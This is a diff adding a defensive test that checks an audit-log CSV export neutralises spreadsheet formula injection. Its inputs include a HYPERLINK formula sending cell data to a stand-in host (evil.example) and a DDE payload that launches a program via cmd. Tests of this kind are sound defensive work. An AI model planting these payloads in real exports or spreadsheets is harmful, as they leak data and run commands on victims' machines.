@@ -99,3 +99,31 @@ def test_metrics_endpoint_counts_dispatches_by_level_outcome_and_region(settings
 def test_admin_index_links_to_the_dashboard(admin_client):
     page = admin_client.get("/admin/").content.decode()
     assert 'href="/admin/audit/dashboard/"' in page
+
+
+def test_csv_export_defuses_formulas_an_api_client_wrote_into_the_log(admin_client):
+    """OWASP CSV injection: text a spreadsheet would run as a formula gets a leading quote."""
+    from policies.demo import demo_world_load
+
+    demo_world_load()
+    api = keyed_api("dispatch", "override")[0]
+    link = '=HYPERLINK("https://evil.example/?leak="&A1,"Details")'
+    reasons = [link, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\uff1d1+1"]
+    for reason in reasons:
+        body = {
+            "subject": "mathematics",
+            "grade_band": "elementary",
+            "region": "us_east",
+            "teacher_override": True,
+            "override_provider_id": "anthropic-claude",
+            "override_reason": reason,
+            "teacher_id": link[:64],
+        }
+        assert api.post(f"/dispatch?request_id={uuid.uuid4()}", body, format="json").status_code == 422  # audited
+    response = admin_client.get("/admin/audit/dispatchlog/export.csv")
+    text = b"".join(response.streaming_content).decode()
+    rows = list(csv.DictReader(io.StringIO(text)))
+    assert sorted(row["override_reason"] for row in rows) == sorted("'" + reason for reason in reasons)
+    assert {row["teacher_id"] for row in rows} == {"'" + link[:64]}
+    header, first = text.splitlines()[:2]
+    assert header.startswith('"id","created_at"') and first.startswith('"')  # every cell quoted
